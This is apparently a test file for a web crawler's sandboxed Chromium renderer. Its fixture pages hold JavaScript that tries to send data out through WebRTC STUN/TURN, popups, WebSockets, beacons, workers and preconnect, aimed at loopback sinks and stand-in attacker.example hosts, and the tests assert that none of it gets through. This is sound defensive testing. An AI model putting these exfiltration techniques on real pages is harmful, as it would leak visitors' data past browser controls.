"""The renderer's Chromium sends nothing the crawl did not decide (issue 37, items 1 and 14).

A crawled page's script tries every way out that `page.route` cannot see: WebRTC's STUN and
TURN (UDP to any address, and host names resolved through the system's resolver), the same
from a frame's window, a popup, a WebSocket, a preconnect. Loopback listeners stand where
those lead, and a DNS server stands where /etc/resolv.conf points (tests/formats/sealed.py):
none may see a packet, and the page must still be rendered and indexed.
"""

from __future__ import annotations

from pathlib import Path

from tests.formats.sealed import Listeners, need_namespaces, sealed_crawl
from webcrawler.demoweb.server import LoopbackWeb, Page, Site
from webcrawler.index import open_searcher

SITE, DNS, STUN = "127.0.74.1", "127.0.74.53", "127.0.74.2"

WEBRTC = Page(
    "<!DOCTYPE html><html><head><title>Calls</title></head><body><div id=\"root\"></div><script>"
    "function call(RTC, name) {"
    "  const pc = new RTC({iceServers: ["
    f"    {{urls: ['stun:{STUN}:3478', 'stun:' + name + '.attacker.example:3478']}},"
    f"    {{urls: ['turn:{STUN}:3478', 'turn:' + name + '-turn.attacker.example:3478',"
    f"             'turn:{STUN}:3478?transport=tcp'], username: 'u', credential: 'p'}}]}});"
    "  pc.createDataChannel('leak');"
    "  pc.createOffer().then(offer => pc.setLocalDescription(offer));"
    "}"
    "call(RTCPeerConnection, 'secret-text');"
    "const frame = document.createElement('iframe'); document.body.appendChild(frame);"
    "call(frame.contentWindow.RTCPeerConnection, 'frame-text');"
    "document.getElementById('root').innerHTML = '<p>the script wrote of walrus lanterns</p>';"
    "</script></body></html>")


def test_webrtc_and_dns_never_leave_the_browser(tmp_path: Path) -> None:
    need_namespaces()
    with Listeners(udp=((DNS, 53), (STUN, 3478)), tcp=((STUN, 3478),)) as listeners, \
            LoopbackWeb([Site(SITE, {"/": WEBRTC})]) as web:
        done = sealed_crawl(tmp_path, DNS, "--data-dir", str(tmp_path / "data"), "--seed",
                            web.url(SITE, "/"), "--render", "always", "--agents", "1",
                            "--delay", "0", "--no-progress", "--render-timeout", "6",
                            "--hours", "0.05")
        web.log.settle()
    assert done.returncode == 0, done.stderr
    assert listeners.seen == []  # no STUN, no TURN, no name looked up
    with open_searcher(tmp_path / "data" / "index") as searcher:
        assert [hit.url for hit in searcher.search("walrus lanterns").hits] == [web.url(SITE, "/")]


OTHER, SINK = "127.0.74.3", "127.0.74.4"
ESCAPES = Page(
    "<!DOCTYPE html><html><head><title>Escapes</title>"
    f"<link rel=\"preconnect\" href=\"http://{SINK}:8080/\">"
    f"<link rel=\"prefetch\" href=\"http://{SINK}:8080/prefetched\"></head>"
    "<body><div id=\"root\"></div><script>"
    "const other = 'http://' + location.hostname.replace(/[.]1$/, '.3') + ':{port}';"
    "function quietly(f) { try { f(); } catch (e) {} }"
    "quietly(() => window.open(other + '/popup'));"
    "quietly(() => window.open(other + '/popup-noopener', '_blank', 'noopener'));"
    "quietly(() => window.open('http://popup.attacker.example/'));"
    f"quietly(() => new WebSocket('ws://{SINK}:8080/socket'));"
    "quietly(() => new WebSocket('ws://' + location.host + '/own-socket'));"
    "quietly(() => navigator.sendBeacon(other + '/beacon', 'text'));"
    "quietly(() => new Worker(URL.createObjectURL(new Blob(["
    "  \"fetch('\" + other + \"/worker'); new WebSocket('ws://" + SINK + ":8080/worker-socket');\""
    "]))));"
    "document.getElementById('root').innerHTML = '<p>the script wrote of heron kites</p>';"
    "</script></body></html>")


def test_popups_websockets_workers_and_chromium_itself_reach_nothing(tmp_path: Path) -> None:
    """Nothing reaches a server the page names, the page's own server beyond the page, the
    old dead proxy's address (127.0.0.1:9: whoever listens there became the browser's proxy,
    and heard Chromium's update and account checks) or the DNS server."""
    need_namespaces()
    with Listeners(udp=((DNS, 53),), tcp=((SINK, 8080), ("127.0.0.1", 9))) as listeners, \
            LoopbackWeb([Site(OTHER, {})]) as other:
        port = other.name(OTHER).rsplit(":", 1)[1]
        page = Page(str(ESCAPES.body).replace("{port}", port))
        with LoopbackWeb([Site(SITE, {"/": page})]) as web:
            done = sealed_crawl(tmp_path, DNS, "--data-dir", str(tmp_path / "data"), "--seed",
                                web.url(SITE, "/"), "--render", "always", "--agents", "1",
                                "--delay", "0", "--no-progress", "--render-timeout", "6",
                                "--hours", "0.05")
            web.log.settle()
        other.log.settle()
    assert done.returncode == 0, done.stderr
    assert listeners.seen == []
    assert other.log.paths() == []
    assert web.log.paths() == ["/robots.txt", "/"]
    with open_searcher(tmp_path / "data" / "index") as searcher:
        assert [hit.url for hit in searcher.search("heron kites").hits] == [web.url(SITE, "/")]
